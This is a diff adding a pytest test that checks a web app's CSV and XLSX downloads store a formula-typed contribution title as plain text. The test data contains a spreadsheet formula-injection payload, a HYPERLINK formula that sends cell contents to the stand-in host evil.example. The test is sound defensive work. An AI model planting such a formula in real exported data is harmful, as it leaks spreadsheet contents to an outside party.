@@ -49,3 +49,26 @@ def test_title_of_an_activity_the_reader_may_not_open(client, funding):
             assert "Confidential draft plan" not in body_text(resp), (who, page)
     client.force_login(funding["author"])
     assert "Confidential draft plan" in body_text(client.get("/en/partnerships/flows/?format=csv"))
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_title_typed_as_a_formula_is_text_in_the_public_download(client, funding, fmt):
+    """A focal point's contribution titled as a formula reaches the anonymous download as text."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
+    services.contribution_create(actor=funding["author"], data={
+        "symbol": "SG1RGQ/9", "body": "sg1", "meeting": "SG1", "date": "2025-04-10", "title": attack,
+        "language": "en", "sources": [funding["ministry"].pk], "action_lines": ["C2"]})
+    resp = client.get(f"/en/partnerships/contributions/?format={fmt}")
+    assert resp.status_code == 200
+    if fmt == "csv":
+        cells = [c for row in csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))) for c in row]
+        assert "'" + attack in cells and attack not in cells
+    else:
+        ws = load_workbook(io.BytesIO(resp.content)).active
+        cell = next(c for row in ws.iter_rows() for c in row if c.value == attack)
+        assert cell.data_type == "s" and cell.quotePrefix
